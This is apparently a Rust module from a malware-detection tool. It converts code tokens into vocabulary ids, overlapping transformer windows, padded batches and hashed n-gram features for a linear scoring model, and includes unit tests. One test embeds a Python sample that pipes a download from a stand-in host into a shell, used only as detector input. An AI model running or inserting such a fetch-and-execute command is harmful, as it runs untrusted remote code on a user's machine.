//! Where token strings become model inputs: vocabulary ids, windows, padded batches, and the
//! hashed n-gram features of the stage-1 linear model.
//!
//! Training and inference both go through this module, so a model always sees its inputs made
//! the same way. The vocabulary is read from the `tokenizer.json` that the `tokenizers` library
//! writes (a `WordLevel` model over whitespace-separated tokens, which is exactly how token
//! strings are built); its hash is what a model records and what a scan checks.

use rustc_hash::FxHashMap;
use serde::Deserialize;
use sha2::{Digest, Sha256};

use crate::error::Error;
use crate::malwicode::Malwicode;

pub const PAD: &str = "[PAD]";
pub const UNK: &str = "[UNK]";
pub const CLS: &str = "[CLS]";
pub const SEP: &str = "[SEP]";

/// What the featurizer reads: an object's typed malwicode, or a token string (the research
/// pipeline's stored objects; split on spaces here, the one place that reads rendered malwicode).
#[derive(Clone, Copy, Debug)]
pub enum Tokens<'a> {
    Code(&'a Malwicode),
    Text(&'a str),
}

impl Tokens<'_> {
    /// Calls `f` with each token, in order.
    pub fn for_each(self, f: impl FnMut(&str)) {
        match self {
            Tokens::Code(code) => code.tokens().for_each(f),
            Tokens::Text(text) => text.split(' ').filter(|t| !t.is_empty()).for_each(f),
        }
    }
}

/// A closed vocabulary: token → id, unknown tokens map to `[UNK]`.
pub struct Vocabulary {
    ids: FxHashMap<String, u32>,
    pub pad: u32,
    pub unk: u32,
    pub cls: u32,
    pub sep: u32,
    hash: String,
}

#[derive(Deserialize)]
struct TokenizerFile {
    model: TokenizerModel,
}

#[derive(Deserialize)]
struct TokenizerModel {
    #[serde(rename = "type")]
    kind: String,
    vocab: FxHashMap<String, u32>,
}

impl Vocabulary {
    /// Reads a `tokenizers` `tokenizer.json` with a `WordLevel` model.
    pub fn from_tokenizer_json(json: &str) -> Result<Vocabulary, Error> {
        let file: TokenizerFile =
            serde_json::from_str(json).map_err(|e| Error::Config(format!("invalid tokenizer.json: {e}")))?;
        if file.model.kind != "WordLevel" {
            return Err(Error::Config(format!("tokenizer model must be WordLevel, not {}", file.model.kind)));
        }
        Vocabulary::from_map(file.model.vocab)
    }

    pub fn from_map(ids: FxHashMap<String, u32>) -> Result<Vocabulary, Error> {
        let special = |token: &str| {
            ids.get(token).copied().ok_or_else(|| Error::Config(format!("vocabulary lacks the special token {token}")))
        };
        let (pad, unk, cls, sep) = (special(PAD)?, special(UNK)?, special(CLS)?, special(SEP)?);
        let mut entries: Vec<(&String, &u32)> = ids.iter().collect();
        entries.sort_by_key(|(_, id)| **id);
        let mut digest = Sha256::new();
        for (token, id) in entries {
            digest.update(format!("{id}\t{token}\n").as_bytes());
        }
        let hash = hex::encode(digest.finalize());
        Ok(Vocabulary { ids, pad, unk, cls, sep, hash })
    }

    /// SHA-256 over `id<TAB>token` lines in id order: equal hashes, equal vocabularies.
    pub fn hash(&self) -> &str {
        &self.hash
    }

    pub fn len(&self) -> usize {
        self.ids.len()
    }

    /// One more than the highest id: the size an embedding table needs (ids may have gaps).
    pub fn id_space(&self) -> usize {
        self.ids.values().max().map_or(0, |&id| id as usize + 1)
    }

    pub fn is_empty(&self) -> bool {
        self.ids.is_empty()
    }

    pub fn id(&self, token: &str) -> u32 {
        self.ids.get(token).copied().unwrap_or(self.unk)
    }
}

/// How objects are cut into model inputs.
#[derive(Clone, Copy, Debug)]
pub struct WindowSpec {
    /// Window length including `[CLS]` and `[SEP]`.
    pub max_length: usize,
    /// Distance between the starts of consecutive windows (overlap = length − 2 − stride).
    pub stride: usize,
    /// Upper bound on windows per object; spread evenly over longer objects.
    pub max_windows: usize,
}

impl WindowSpec {
    pub fn validate(&self) -> Result<(), Error> {
        if self.max_length < 3 || self.stride == 0 || self.stride > self.max_length - 2 || self.max_windows == 0 {
            return Err(Error::Config(format!(
                "invalid windows: max_length {} stride {} max_windows {} (need max_length ≥ 3, 0 < stride ≤ max_length − 2)",
                self.max_length, self.stride, self.max_windows
            )));
        }
        Ok(())
    }
}

/// Windows of many objects, stored flat: window `w` holds `ids[starts[w]..starts[w + 1]]`.
#[derive(Debug, Default)]
pub struct Encoding {
    pub ids: Vec<u32>,
    pub starts: Vec<u32>,
    /// Index of the object each window came from.
    pub objects: Vec<u32>,
}

impl Encoding {
    pub fn window_count(&self) -> usize {
        self.objects.len()
    }

    pub fn window(&self, w: usize) -> &[u32] {
        &self.ids[self.starts[w] as usize..self.starts[w + 1] as usize]
    }

    /// A padded `[rows, columns]` batch of the given windows (columns = longest of them) and
    /// its attention mask, as row-major `i64` (what exported transformers take).
    pub fn pack(&self, windows: &[usize], pad: u32) -> (Vec<i64>, Vec<i64>, usize, usize) {
        let columns = windows.iter().map(|&w| self.window(w).len()).max().unwrap_or(0);
        let mut ids = vec![pad as i64; windows.len() * columns];
        let mut mask = vec![0i64; windows.len() * columns];
        for (row, &w) in windows.iter().enumerate() {
            let window = self.window(w);
            let at = row * columns;
            for (slot, &id) in ids[at..at + window.len()].iter_mut().zip(window) {
                *slot = id as i64;
            }
            mask[at..at + window.len()].fill(1);
        }
        (ids, mask, windows.len(), columns)
    }
}

/// Cuts objects into `[CLS] … [SEP]` windows of ids.
pub fn encode(items: &[Tokens<'_>], vocabulary: &Vocabulary, spec: WindowSpec) -> Encoding {
    let content = spec.max_length - 2;
    let mut encoding = Encoding { starts: vec![0], ..Default::default() };
    let mut ids = Vec::new();
    for (object, tokens) in items.iter().enumerate() {
        ids.clear();
        tokens.for_each(|t| ids.push(vocabulary.id(t)));
        for start in window_starts(ids.len(), content, spec.stride, spec.max_windows) {
            let end = (start + content).min(ids.len());
            encoding.ids.push(vocabulary.cls);
            encoding.ids.extend_from_slice(&ids[start..end]);
            encoding.ids.push(vocabulary.sep);
            encoding.starts.push(encoding.ids.len() as u32);
            encoding.objects.push(object as u32);
        }
    }
    encoding
}

/// Window start positions covering `len` tokens; the last window always ends at the end. More
/// than `max_windows` positions are thinned evenly, keeping the first and the last.
fn window_starts(len: usize, content: usize, stride: usize, max_windows: usize) -> Vec<usize> {
    if len <= content {
        return vec![0];
    }
    let last = len - content;
    let mut starts: Vec<usize> = (0..last).step_by(stride).collect();
    starts.push(last);
    if starts.len() > max_windows {
        let n = starts.len();
        starts = (0..max_windows).map(|i| starts[i * (n - 1) / (max_windows - 1).max(1)]).collect();
        starts.dedup();
    }
    starts
}

// ---------------------------------------------------------------------------------------------
// Stage 1: hashed token n-grams and a linear model over them

/// FNV-1a, 64 bit: fixed and platform-independent, so trained weights stay valid everywhere.
fn fnv1a(bytes: &[u8], mut hash: u64) -> u64 {
    for &b in bytes {
        hash ^= b as u64;
        hash = hash.wrapping_mul(0x100000001b3);
    }
    hash
}

const FNV_OFFSET: u64 = 0xcbf29ce484222325;

/// Feature indices (with repeats) of all `min_order..=max_order`-grams of an object's tokens, in
/// a table of `2^bits` slots. A token's hash is computed once; n-grams combine their tokens' hashes.
pub fn ngram_features(tokens: Tokens<'_>, bits: u32, min_order: usize, max_order: usize, out: &mut Vec<u32>) {
    let mask = (1u64 << bits) - 1;
    let mut hashes: Vec<u64> = Vec::new();
    tokens.for_each(|t| hashes.push(fnv1a(t.as_bytes(), FNV_OFFSET)));
    for order in min_order.max(1)..=max_order {
        if hashes.len() < order {
            break;
        }
        for window in hashes.windows(order) {
            let mut hash = FNV_OFFSET ^ (order as u64).wrapping_mul(0x9E3779B97F4A7C15);
            for &h in window {
                hash = fnv1a(&h.to_le_bytes(), hash);
            }
            out.push((hash & mask) as u32);
        }
    }
}

/// Logistic regression over binary n-gram presence: `sigmoid(bias + Σ weights[feature])`.
pub struct LinearModel {
    weights: Vec<f32>,
    bias: f32,
    bits: u32,
    max_order: usize,
}

impl LinearModel {
    pub fn new(weights: Vec<f32>, bias: f32, bits: u32, max_order: usize) -> Result<LinearModel, Error> {
        if bits == 0 || bits > 26 || weights.len() != 1usize << bits || max_order == 0 {
            return Err(Error::Config(format!(
                "stage-1 model: {} weights do not fit 2^{bits} slots (max order {max_order})",
                weights.len()
            )));
        }
        Ok(LinearModel { weights, bias, bits, max_order })
    }

    /// The probability that an object is malicious, from its tokens.
    pub fn score(&self, tokens: Tokens<'_>) -> f32 {
        let mut features = Vec::new();
        ngram_features(tokens, self.bits, 1, self.max_order, &mut features);
        features.sort_unstable();
        features.dedup();
        let logit = self.bias + features.iter().map(|&f| self.weights[f as usize]).sum::<f32>();
        1.0 / (1.0 + (-logit).exp())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn vocabulary(tokens: &[&str]) -> Vocabulary {
        let mut map = FxHashMap::default();
        for (i, token) in [PAD, UNK, CLS, SEP].iter().chain(tokens).enumerate() {
            map.insert(token.to_string(), i as u32);
        }
        Vocabulary::from_map(map).unwrap()
    }

    #[test]
    fn unknown_tokens_map_to_unk_and_the_hash_tracks_content() {
        let v = vocabulary(&["LOAD_NAME", "CALL"]);
        assert_eq!(v.id("CALL"), 5);
        assert_eq!(v.id("nonsense"), v.unk);
        assert_eq!(v.id_space(), 6);
        let mut gappy = FxHashMap::default();
        for (token, id) in [(PAD, 0u32), (UNK, 1), (CLS, 2), (SEP, 3), ("x", 99)] {
            gappy.insert(token.to_string(), id);
        }
        assert_eq!(Vocabulary::from_map(gappy).unwrap().id_space(), 100);
        assert_ne!(v.hash(), vocabulary(&["LOAD_NAME", "CALL_X"]).hash());
        assert_eq!(v.hash(), vocabulary(&["LOAD_NAME", "CALL"]).hash());
        assert!(Vocabulary::from_map(FxHashMap::default()).is_err());
    }

    #[test]
    fn reads_tokenizers_word_level_json() {
        let json = r#"{"version":"1.0","model":{"type":"WordLevel","vocab":{"[PAD]":0,"[UNK]":1,"[CLS]":2,"[SEP]":3,"CALL":4},"unk_token":"[UNK]"}}"#;
        let v = Vocabulary::from_tokenizer_json(json).unwrap();
        assert_eq!(v.len(), 5);
        assert_eq!((v.pad, v.unk, v.cls, v.sep, v.id("CALL")), (0, 1, 2, 3, 4));
        assert!(Vocabulary::from_tokenizer_json(&json.replace("WordLevel", "BPE")).is_err());
    }

    #[test]
    fn windows_cover_every_token_with_overlap() {
        let v = vocabulary(&["a"]);
        let spec = WindowSpec { max_length: 6, stride: 3, max_windows: 100 };
        let short = encode(&[Tokens::Text("a a")], &v, spec);
        assert_eq!(short.window_count(), 1);
        assert_eq!(short.window(0), &[v.cls, 4, 4, v.sep]);
        let tokens = (0..10).map(|_| "a").collect::<Vec<_>>().join(" ");
        let long = encode(&[Tokens::Text(&tokens)], &v, spec);
        // content 4, stride 3: starts 0, 3, 6 (last = 10 - 4 = 6)
        assert_eq!(long.window_count(), 3);
        assert!((0..3).all(|w| long.window(w).len() == 6));
        // Which tokens each window holds: starts 0, 3 and 6, one token shared with the next.
        let names: Vec<String> = (0..10).map(|i| format!("t{i}")).collect();
        let v = vocabulary(&names.iter().map(String::as_str).collect::<Vec<_>>());
        let numbered = encode(&[Tokens::Text(&names.join(" "))], &v, spec);
        let windows: Vec<&[u32]> = (0..numbered.window_count()).map(|w| numbered.window(w)).collect();
        let id = |i: u32| 4 + i;
        assert_eq!(
            windows,
            [
                &[v.cls, id(0), id(1), id(2), id(3), v.sep][..],
                &[v.cls, id(3), id(4), id(5), id(6), v.sep][..],
                &[v.cls, id(6), id(7), id(8), id(9), v.sep][..],
            ]
        );
        let empty = encode(&[Tokens::Text("")], &v, spec);
        assert_eq!(empty.window(0), &[v.cls, v.sep]);
    }

    #[test]
    fn window_starts_are_thinned_evenly() {
        let starts = window_starts(1000, 10, 10, 5);
        assert_eq!(starts.len(), 5);
        assert_eq!(starts, [0, 240, 490, 740, 990]);
        assert_eq!(starts[0], 0);
        assert_eq!(*starts.last().unwrap(), 990);
        assert!(starts.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn packing_pads_and_masks() {
        let v = vocabulary(&["a", "b"]);
        let spec = WindowSpec { max_length: 8, stride: 6, max_windows: 4 };
        let encoding = encode(&[Tokens::Text("a"), Tokens::Text("a b a")], &v, spec);
        let (ids, mask, rows, columns) = encoding.pack(&[1, 0], v.pad);
        assert_eq!((rows, columns), (2, 5));
        assert_eq!(ids, [2, 4, 5, 4, 3, 2, 4, 3, 0, 0]);
        assert_eq!(mask, [1, 1, 1, 1, 1, 1, 1, 1, 0, 0]);
    }

    #[test]
    fn ngram_features_are_stable_and_in_range() {
        let mut a = Vec::new();
        ngram_features(Tokens::Text("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT"), 12, 1, 3, &mut a);
        assert_eq!(a.len(), 4 + 3 + 2);
        assert!(a.iter().all(|&f| f < 4096));
        let mut b = Vec::new();
        ngram_features(Tokens::Text("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT"), 12, 1, 3, &mut b);
        let mut only_bigrams = Vec::new();
        ngram_features(Tokens::Text("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT"), 12, 2, 2, &mut only_bigrams);
        assert_eq!(only_bigrams, a[4..7]);
        // The four unigrams, then the three bigrams, then the two trigrams.
        let (mut only_unigrams, mut only_trigrams) = (Vec::new(), Vec::new());
        ngram_features(Tokens::Text("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT"), 12, 1, 1, &mut only_unigrams);
        ngram_features(Tokens::Text("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT"), 12, 3, 3, &mut only_trigrams);
        assert_eq!((only_unigrams.as_slice(), only_trigrams.as_slice()), (&a[..4], &a[7..]));
        assert_eq!(a, b);
        // The 2-gram "a b" differs from the 1-grams "a" and "b".
        let mut c = Vec::new();
        ngram_features(Tokens::Text("a b"), 20, 1, 2, &mut c);
        assert_eq!(c.len(), 3);
        assert!(c[2] != c[0] && c[2] != c[1]);
        let (mut just_a, mut just_b) = (Vec::new(), Vec::new());
        ngram_features(Tokens::Text("a"), 20, 1, 1, &mut just_a);
        ngram_features(Tokens::Text("b"), 20, 1, 1, &mut just_b);
        assert_eq!(c[..2], [just_a[0], just_b[0]], "the unigrams first, then the bigram");
    }

    #[test]
    fn typed_code_and_its_rendering_featurize_alike() {
        let objects = crate::compile_source(
            b"import os\nos.system('curl http://x.example/a | sh')\n",
            crate::Language::Python,
            "t.py",
            &crate::FeaturizerConfig::default(),
        )
        .unwrap();
        let code = objects[0].code();
        let rendered = code.render();
        let (mut typed, mut text) = (Vec::new(), Vec::new());
        ngram_features(Tokens::Code(code), 16, 1, 3, &mut typed);
        ngram_features(Tokens::Text(&rendered), 16, 1, 3, &mut text);
        assert!(!typed.is_empty());
        assert_eq!(typed, text);
        let v = vocabulary(&["LOAD_NAME", "os", "PROCESS_MANAGEMENT"]);
        let spec = WindowSpec { max_length: 8, stride: 6, max_windows: 4 };
        let (a, b) = (encode(&[Tokens::Code(code)], &v, spec), encode(&[Tokens::Text(&rendered)], &v, spec));
        assert_eq!((a.ids, a.starts, a.objects), (b.ids, b.starts, b.objects));
    }

    #[test]
    fn linear_model_scores_with_its_weights() {
        let bits = 10;
        let mut weights = vec![0.0f32; 1 << bits];
        let mut features = Vec::new();
        ngram_features(Tokens::Text("PROCESS_MANAGEMENT"), bits, 1, 1, &mut features);
        weights[features[0] as usize] = 4.0;
        let model = LinearModel::new(weights, -2.0, bits, 2).unwrap();
        assert!(model.score(Tokens::Text("LOAD_ATTR PROCESS_MANAGEMENT")) > 0.8);
        assert!(model.score(Tokens::Text("LOAD_ATTR lower")) < 0.2);
        assert!(LinearModel::new(vec![0.0; 3], 0.0, bits, 2).is_err());
    }
}
